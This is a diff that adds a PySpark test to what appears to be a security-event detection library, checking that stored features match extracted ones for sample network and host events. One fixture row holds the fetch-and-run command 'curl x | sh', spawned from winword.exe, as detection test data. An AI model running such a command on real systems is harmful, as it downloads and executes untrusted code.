@@ -128,3 +128,25 @@ def test_followed_by(spark, way):
     ], "host")
     got = followed_by(df, ["hostname"], F.col("command_line").contains("sudo"), F.col("command_line") == "fail", 10)
     assert rows(got.select("event_id", "gap_us")) == [(1, 5_000_000)]
+
+
+def test_stored_features_are_the_extracted_ones(spark):
+    from palisade.operators.features import stored_features, with_features
+    from palisade.schemas import FEATURE_SCHEMA
+
+    data = [
+        {"event_id": 1, "t": 0.0, "src_ip": "10.0.0.1", "dst_ip": "8.8.8.8", "src_port": 50000, "dst_port": 22,
+         "protocol": "TCP", "bytes_sent": 10, "packets_sent": 1, "raw_data": '{"tcp_flags": "SA"}'},
+        {"event_id": 2, "t": 4.0, "src_ip": "10.0.0.1", "dst_ip": "8.8.8.8", "src_port": 50000, "dst_port": 22},
+        {"event_id": 3, "t": 5.0, "event_type": "host", "hostname": "h", "username": "0", "process_name": "bash",
+         "command_line": "curl x | sh", "parent_process": "winword.exe"},
+        {"event_id": 4, "t": 6.0, "event_type": "other"},
+    ]
+    df = events(spark, data)
+    stored = with_features(df)
+    assert stored.columns == df.columns and stored.count() == 4
+    assert stored.where("event_id = 4").first()["features"] is None
+    want = {r["event_id"]: r.asDict() for r in extract_features(df).collect()}
+    for r in stored_features(stored.where("event_id < 4")).collect():
+        for name in FEATURE_SCHEMA.names:
+            assert r[name] == want[r["event_id"]].get(name), name
